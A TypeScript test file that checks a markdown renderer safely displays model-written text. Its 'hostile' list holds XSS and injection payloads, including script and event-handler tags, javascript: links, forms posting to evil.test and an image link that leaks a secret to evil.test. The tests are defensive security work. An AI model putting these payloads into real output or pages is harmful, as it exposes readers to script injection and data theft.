import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './renderMarkdown.ts';

function render(text: string): HTMLElement {
  const box = document.createElement('div');
  box.append(renderMarkdown(text));
  return box;
}

/** What a model could write to reach the reader, or somebody else. */
const hostile: readonly string[] = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '![a secret](https://evil.test/?q=secret)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '<svg><animate onbegin=alert(1)></svg>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt&#58;alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](//evil.test)',
  '[click](vbscript:x)',
  '<a href="https://evil.test" target="_top" onclick="alert(1)">raw</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.test"><input name=q></form>',
  '<div style="position:fixed;inset:0" id="app" class="x">over all</div>',
  '[x]: javascript:alert(1)\n\n[x]',
  '<https://evil.test/"onmouseover="alert(1)>',
  '```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '`<b>`<img src=x onerror=alert(1)//>',
  '<pre tabindex="7"><a tabindex="9" href="https://evil.test">x</a></pre>',
];

describe('markdown of a model', () => {
  it.each(hostile)('is made harmless: %s', (text) => {
    const box = render(text);
    document.body.append(box);
    const elements = [...box.querySelectorAll('*')];
    expect(
      box.querySelector('script, img, svg, iframe, style, form, input, object, math, link, base'),
    ).toBeNull();
    for (const element of elements) {
      for (const { name, value } of element.attributes) {
        // Ours, on code alone: an index of the text's own would take the keyboard elsewhere.
        if (name === 'tabindex') expect([element.tagName, value]).toEqual(['PRE', '0']);
        else expect(['href', 'target', 'rel', 'start', 'align']).toContain(name);
      }
    }
    for (const link of box.querySelectorAll('a')) {
      expect(link.protocol).toMatch(/^https?:$/);
      expect(link.getAttribute('href')).toMatch(/^https?:\/\//);
      expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer']);
    }
    expect('hit' in window).toBe(false);
    box.remove();
  });

  it('shows HTML as the text that it is', () => {
    expect(render('I am <b>bold</b>.').textContent?.trim()).toBe('I am <b>bold</b>.');
    expect(render('<div>block</div>').textContent?.trim()).toBe('<div>block</div>');
  });

  it('shows the words of an image, and fetches nothing', () => {
    expect(render('![my house](https://evil.test/house.png)').textContent?.trim()).toBe('my house');
  });

  it('keeps what a text is made of', () => {
    const box = render(
      '# Title\n\nA *slow* **day**\nin `May`:\n\n1. tea\n2. work\n\n| a |\n| - |\n| b |\n\n> so',
    );
    for (const tag of ['h1', 'em', 'strong', 'br', 'code', 'ol > li', 'table td', 'blockquote']) {
      expect(box.querySelector(tag), tag).not.toBeNull();
    }
  });

  it('lets the keyboard reach code that scrolls', () => {
    expect(render('```\na long line\n```').querySelector('pre')?.tabIndex).toBe(0);
  });

  it('keeps links to the web', () => {
    expect(render('[a site](https://example.org/x)').querySelector('a')?.href).toBe('https://example.org/x');
  });
});
